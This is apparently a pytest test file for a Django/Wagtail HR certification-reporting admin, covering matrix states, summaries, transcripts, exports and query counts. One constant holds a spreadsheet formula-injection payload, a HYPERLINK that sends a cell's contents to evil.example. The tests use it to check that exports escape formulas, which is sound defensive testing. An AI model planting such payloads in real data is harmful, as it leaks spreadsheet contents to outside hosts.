import io
import re
import zipfile
from datetime import timedelta

import pytest
from django.http import StreamingHttpResponse
from django.utils import timezone
from openpyxl import load_workbook

from accounts.models import Department
from certification.models import CertificateRule
from courses import api as courses_api
from courses.models import CoursePage, LessonProgress
from hr import reports
from quizzes.models import Attempt, AttemptStatus, QuizDraw, QuizPage
from tests.hr.conftest import give_certificate, make_employee

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def org(departments, course, rule, hr):
    """Seven people, one in each state of the rule's certificate (the course is assigned to 运营部,
    due in 30 days; one person also personally, due yesterday)."""
    today = timezone.localdate()
    people = {
        "current": make_employee("current@example.com", departments["ops-users"], display_name="A Current"),
        "expiring": make_employee("expiring@example.com", departments["ops-users"], display_name="B Expiring"),
        "revoked": make_employee("revoked@example.com", departments["ops-users"], display_name="C Revoked"),
        "missing": make_employee("missing@example.com", departments["ops"], display_name="D Missing"),
        "expired": make_employee("expired@example.com", departments["ops-content"], display_name="E Expired"),
        "overdue": make_employee("overdue@example.com", departments["ops-content"], display_name="F Overdue"),
        "sales": make_employee("sales@example.com", departments["sales"], display_name="G Sales"),
    }
    courses_api.assign_course(course, department=departments["ops"], due_date=today + timedelta(days=30), by=hr)
    courses_api.assign_course(course, user=people["overdue"], due_date=today - timedelta(days=1), by=hr)
    give_certificate(people["current"], rule, days_left=365)
    give_certificate(people["expiring"], rule, days_left=10)
    give_certificate(people["revoked"], rule, days_left=365, revoked=True)
    give_certificate(people["expired"], rule, days_left=-5)
    return people


def states_in(html):
    """{person's name: [cell states]} from a rendered matrix page."""
    rows = re.findall(r"<tr.*?</tr>", html, flags=re.S)
    found = {}
    for row in rows:
        name = re.search(r"<a [^>]*>\s*([^<]+?)\s*</a>", row)
        if name:
            found[name.group(1)] = re.findall(r'data-state="(\w*)"', row)
    return found


def test_matrix_cells_take_every_state(org, rule, departments):
    requirements = reports.Requirements()
    rules = requirements.rules_in_scope(None)
    assert [r.slug for r in rules] == ["module-1"]
    rows = reports.matrix_rows(list(reports.people()), requirements, rules)
    states = {row.person.email.split("@")[0]: row.cells.get(rule.id) for row in rows}
    assert {name: cell.state if cell else None for name, cell in states.items()} == {
        "current": "current", "expiring": "expiring", "revoked": "missing", "missing": "missing",
        "expired": "expired", "overdue": "overdue", "sales": None,
    }
    assert states["overdue"].due_date == timezone.localdate() - timedelta(days=1)  # the earlier of the two


def test_matrix_page_renders_the_states_and_filters_by_department(client, hr, org, departments):
    client.force_login(hr)
    html = client.get("/admin/hr/").content.decode()
    assert states_in(html) == {  # 销售部: nothing is required there, so not listed
        "D Missing": ["missing"], "E Expired": ["expired"], "F Overdue": ["overdue"], "A Current": ["current"],
        "B Expiring": ["expiring"], "C Revoked": ["missing"],
    }
    html = client.get("/admin/hr/", {"department": departments["ops-content"].pk}).content.decode()
    assert set(states_in(html)) == {"E Expired", "F Overdue"}
    html = client.get("/admin/hr/", {"department": departments["sales"].pk}).content.decode()
    assert states_in(html) == {}


def test_a_certificate_not_required_of_someone_shows_a_dash(client, hr, org, rule, departments, quiz_setup):
    """A second course, assigned to 销售部 only, adds a column: a dash for 运营部's people, and
    销售部's person now appears, with a dash under the first course's certificate."""
    catalog = quiz_setup.tree.course.get_parent()
    sales_course = catalog.add_child(instance=CoursePage(title="销售课程", slug="sales"))
    exam = sales_course.add_child(instance=QuizPage(title="Sales exam", slug="sales-exam",
                                                    draws=[QuizDraw(bank=quiz_setup.bank, count=1)]))
    CertificateRule.objects.create(slug="sales", title="销售证书", title_en="Sales Certificate", exam=exam)
    courses_api.assign_course(sales_course, department=departments["sales"], due_date=timezone.localdate(), by=hr)
    client.force_login(hr)
    states = states_in(client.get("/admin/hr/").content.decode())
    assert states["G Sales"] == ["", "missing"] and states["A Current"] == ["current", ""]
    states = states_in(client.get("/admin/hr/", {"department": departments["sales"].pk}).content.decode())
    assert states == {"G Sales": ["missing"]}  # only the columns required in the department


def test_matrix_is_paginated_by_person(client, hr, org, departments):
    for n in range(56):
        make_employee(f"extra{n}@example.com", departments["ops-users"], display_name=f"Z{n:02d}")
    client.force_login(hr)
    first = states_in(client.get("/admin/hr/").content.decode())
    second = states_in(client.get("/admin/hr/", {"p": 2}).content.decode())
    assert len(first) == 50 and len(second) == 12 and not set(first) & set(second)


def test_department_summary_counts_each_subtree(client, hr, org, departments, course, quiz_setup):
    LessonProgress.objects.bulk_create(  # every lesson done (module 2's lock waits on the quiz)
        LessonProgress(user=org["current"], lesson_key=lesson.translation_key)
        for lessons in quiz_setup.tree.lessons for lesson in lessons
    )
    figures = {f.department.code: f for f in reports.department_summary(Department.objects.order_by("path"))}
    ops, users, content, sales = (figures[c] for c in ("ops", "ops-users", "ops-content", "sales"))
    assert (ops.people, ops.assigned, ops.completed, ops.required, ops.certified, ops.overdue) == (6, 6, 1, 6, 2, 1)
    assert (ops.completion_percent, ops.certified_percent) == (17, 33)
    assert (users.people, users.completion_percent, users.certified_percent, users.overdue) == (3, 33, 67, 0)
    assert (content.people, content.certified_percent, content.overdue) == (2, 0, 1)
    assert (sales.people, sales.completion_percent, sales.certified_percent) == (1, None, None)
    assert ops.names == "运营部" and users.names == "运营部/用户运营组"

    users_only = Department.objects.filter(path__startswith=departments["ops-users"].path)
    assert [(f.department.code, f.names, f.people) for f in reports.department_summary(users_only)] == [
        ("ops-users", "运营部/用户运营组", 3)]
    client.force_login(hr)
    html = client.get("/admin/hr/summary/").content.decode()
    assert '<svg class="hr-chart"' in html and 'class="completion"' in html and 'data-value="67"' in html


def test_expiring_lists_certificates_within_n_days(client, hr, org, departments):
    client.force_login(hr)
    html = client.get("/admin/hr/expiring/").content.decode()
    assert "B Expiring" in html and "A Current" not in html and "E Expired" not in html and "C Revoked" not in html
    html = client.get("/admin/hr/expiring/", {"days": 400}).content.decode()
    assert "B Expiring" in html and "A Current" in html and "C Revoked" not in html
    html = client.get("/admin/hr/expiring/", {"days": 400, "department": departments["sales"].pk}).content.decode()
    assert "B Expiring" not in html and "A Current" not in html


def test_bad_filter_values_are_refused_not_ignored(client, hr, org, departments):
    """Wagtail lists everything when a filter does not validate; the reports answer 400 (an
    unknown department: 404), for the page and its exports alike."""
    client.force_login(hr)
    for params in ({"days": 0}, {"days": "soon"}, {"days": 0, "export": "csv"}):
        assert client.get("/admin/hr/expiring/", params).status_code == 400, params
    assert client.get("/admin/hr/summary/", {"department": 987654, "export": "xlsx"}).status_code == 404


def test_a_department_summary_export_of_one_subtree_names_its_path(client, hr, org, departments):
    client.force_login(hr)
    response = client.get("/admin/hr/summary/", {"department": departments["ops-users"].pk, "export": "csv"})
    lines = body(response).decode("utf-8-sig").splitlines()
    assert [line.split(",")[:4] for line in lines[1:]] == [["用户运营组", "ops-users", "运营部/用户运营组", "3"]]


def test_transcript_shows_courses_attempts_and_certificates(client, hr, org, rule, quiz_setup):
    person = org["current"]
    courses_api.complete_lesson(person, quiz_setup.tree.lessons[0][0])
    Attempt.objects.create(user=person, quiz=quiz_setup.quiz, quiz_key=quiz_setup.quiz.translation_key, number=1,
                           status=AttemptStatus.FINISHED, finished_at=timezone.now(), percent=85, passed=True)
    client.force_login(hr)
    html = client.get(f"/admin/hr/people/{person.pk}/").content.decode()
    courses = html[html.index('data-section="courses"'):]
    assert "Operations Course" in courses and "1/6 (17%)" in courses  # titles in the admin's language
    attempts = html[html.index('data-section="attempts"'):]
    assert "Quiz" in attempts and "85.0%" in attempts
    certificates = html[html.index('data-section="certificates"'):]
    assert person.certificates.get().code in certificates and "/revoke/" in certificates
    assert 'data-rule="module-1" data-state="current"' in html

    rows = list(reports.transcript_export_rows(person, reports.transcript(person)))
    assert [row["section"] for row in rows] == ["course", "attempt", "certificate"]


def test_a_transcript_counts_progress_as_the_learners_dashboard_does(org, quiz_setup):
    from courses.queries import dashboard

    person = org["current"]
    for lesson in quiz_setup.tree.lessons[0][:2]:
        courses_api.complete_lesson(person, lesson)
    lines = reports.transcript(person)["courses"]
    assert [line.progress for line in lines] == [card.progress for card in dashboard(person)]
    assert (lines[0].progress.done, lines[0].progress.total, lines[0].overdue) == (2, 6, False)


# Exports ---------------------------------------------------------------------------------------

def body(response):
    return b"".join(response.streaming_content)


def test_wagtails_own_csv_export_would_write_a_formula():
    """Why the reports override Wagtail's export: its CSV passes "=…" through unchanged."""
    import csv

    from wagtail.admin.views.mixins import Echo, SpreadsheetExportMixin

    writer = csv.DictWriter(Echo(), fieldnames=["name"])
    assert SpreadsheetExportMixin().write_csv_row(writer, {"name": EVIL_NAME}).startswith(b'"=HYPERLINK')


@pytest.mark.parametrize("url", ["/admin/hr/", "/admin/hr/people/", "/admin/hr/expiring/?days=400"])
def test_csv_exports_stream_and_escape_formulas(client, hr, org, url):
    person = org["expiring"]
    person.display_name = EVIL_NAME
    person.save()
    person.certificates.update(holder_name=EVIL_NAME)
    client.force_login(hr)
    response = (
        client.get(url, {"export": "csv"} if "?" not in url else None) if "?" not in url
        else client.get(url + "&export=csv")
    )
    assert isinstance(response, StreamingHttpResponse)
    text = body(response).decode("utf-8-sig")
    assert "'=HYPERLINK(" in text
    assert not re.search(r'(^|,)"?=HYPERLINK', text, flags=re.M)


def test_matrix_csv_export_has_one_row_per_person_and_certificate(client, hr, org):
    client.force_login(hr)
    lines = body(client.get("/admin/hr/", {"export": "csv"})).decode("utf-8-sig").splitlines()
    assert lines[0] == "employee_id,person,email,department,certificate,course,state,due_date,valid_until"
    assert len(lines) == 1 + 6  # everyone but sales, one required certificate each
    assert any(line.startswith("overdue,F Overdue,overdue@example.com,内容运营组,Module One Certificate,"
                               "Operations Course,overdue,")
               for line in lines)


@pytest.mark.parametrize("url", ["/admin/hr/", "/admin/hr/summary/", "/admin/hr/expiring/", "/admin/hr/people/"])
def test_xlsx_exports_stream_from_a_spooled_file_and_keep_formulas_as_text(client, hr, org, url):
    person = org["expiring"]
    person.display_name = EVIL_NAME
    person.save()
    person.certificates.update(holder_name=EVIL_NAME)
    client.force_login(hr)
    response = client.get(url, {"export": "xlsx"})
    assert response.streaming and response["Content-Type"].startswith("application/vnd.openxmlformats")
    data = body(response)
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    cells = [cell for row in load_workbook(io.BytesIO(data)).active.iter_rows() for cell in row]
    evil = [cell for cell in cells if cell.value == EVIL_NAME]
    if url != "/admin/hr/summary/":
        assert evil and all(cell.data_type == "s" and cell.quotePrefix for cell in evil)


def test_transcript_exports(client, hr, org):
    client.force_login(hr)
    response = client.get(f"/admin/hr/people/{org['current'].pk}/", {"export": "csv"})
    lines = body(response).decode("utf-8-sig").splitlines()
    assert lines[0] == "section,item,status,score,date,detail" and lines[1].startswith("course,Operations Course,")
    assert client.get(f"/admin/hr/people/{org['current'].pk}/", {"export": "xlsx"}).streaming


# Query counts ----------------------------------------------------------------------------------

def _grow(org, departments, rule, n):
    for i in range(n):
        person = make_employee(f"p{n}-{i}@example.com", departments["ops-users" if i % 2 else "ops-content"])
        if i % 3:
            give_certificate(person, rule, days_left=5 + i * 20)


@pytest.mark.parametrize("n", [1, 12])
def test_matrix_queries_do_not_grow_with_people(client, hr, org, departments, rule, n, django_assert_num_queries):
    _grow(org, departments, rule, n)
    client.force_login(hr)
    client.get("/admin/hr/")
    # session, user, HR's permissions (user's, group's), the admin's user profile (language),
    # people count, the page of people (+ profile, department), courses, rules, assignments,
    # the page's certificates; then the admin's furniture: locales, page and collection
    # permissions (menu), departments for the filter.
    with django_assert_num_queries(MATRIX_QUERIES):
        assert client.get("/admin/hr/").status_code == 200


@pytest.mark.parametrize("n", [1, 12])
def test_summary_queries_do_not_grow_with_people(client, hr, org, departments, rule, n, django_assert_num_queries):
    _grow(org, departments, rule, n)
    client.force_login(hr)
    client.get("/admin/hr/summary/")
    # session, user, permissions ×2, admin user profile; departments, courses, rules,
    # assignments, employees, live lessons, completed-course aggregate, certificates; locales,
    # page and collection permissions (menu), departments for the filter.
    with django_assert_num_queries(SUMMARY_QUERIES):
        assert client.get("/admin/hr/summary/").status_code == 200


MATRIX_QUERIES = 15
SUMMARY_QUERIES = 17
